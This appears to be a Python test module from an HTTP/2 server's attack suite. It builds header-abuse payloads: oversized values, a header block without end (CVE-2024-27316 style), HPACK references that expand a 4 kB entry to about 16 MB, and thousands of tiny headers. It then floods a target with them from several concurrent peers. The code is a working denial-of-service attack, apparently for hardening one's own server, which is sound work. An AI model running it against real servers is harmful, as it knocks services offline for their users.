"""Metadata that is too much: large values, header blocks without an end, and HPACK references that unfold."""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import Iterator

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame

from tests.attack.target import Target
from tests.attack.wire import block_of, call, flood, headers_of, message, serialized

CALLS = 20_000
PEERS = 2
AT_ONCE = 20
FRAME = 16_000  # bytes of one frame's part of a block
REFERENCES = 4000  # to an entry of 4 kB: 16 MB out of 4 kB


def large(ids: Iterator[int]) -> bytes:
    """64 kB in five frames."""
    block = block_of([*headers_of("WhoAmI"), *((f"x-{number}", "y" * 8000) for number in range(8))])
    return b"".join(_split(next(ids), block, end=True) + b"" for _ in range(AT_ONCE))


def endless(ids: Iterator[int]) -> bytes:
    """A block that goes on and on (CVE-2024-27316 and its kin)."""
    return _split(next(ids), block_of([("x", "y" * FRAME)]) * AT_ONCE, end=False)


def unfolding(ids: Iterator[int]) -> bytes:
    """One entry in the dynamic table, and thousands of references to it."""
    encoder = Encoder()
    first = bytes(encoder.encode([*headers_of("WhoAmI"), ("x", "y" * 3900)], huffman=False))
    referred = bytes(encoder.encode([("x", "y" * 3900)], huffman=False))
    return b"".join(
        _split(next(ids), (first if number == 0 else b"") + referred * REFERENCES, end=True)
        for number in range(AT_ONCE)
    )


def many(ids: Iterator[int]) -> bytes:
    """Thousands of tiny ones."""
    block = block_of([*headers_of("WhoAmI"), *((f"x{number}", "") for number in range(2000))])
    return b"".join(call(next(ids), block, message(b"")) for _ in range(AT_ONCE))


def _split(stream: int, block: bytes, *, end: bool) -> bytes:
    parts = [block[at : at + FRAME] for at in range(0, len(block), FRAME)]
    frames = [HeadersFrame(stream, parts[0]), *(ContinuationFrame(stream, part) for part in parts[1:])]
    if end:
        frames[-1].flags.add("END_HEADERS")
    return serialized(*frames)


async def attack(target: Target) -> Counter[str]:
    batches = target.scaled(CALLS) // 4 // PEERS // AT_ONCE
    kinds = (large, endless, unfolding, many)
    counts = await asyncio.gather(
        *(
            flood(target, kind, batches=batches // 2, peers=PEERS, agrees=agrees)
            for kind in kinds
            for agrees in (True, False)
        )
    )
    return sum(counts, Counter())
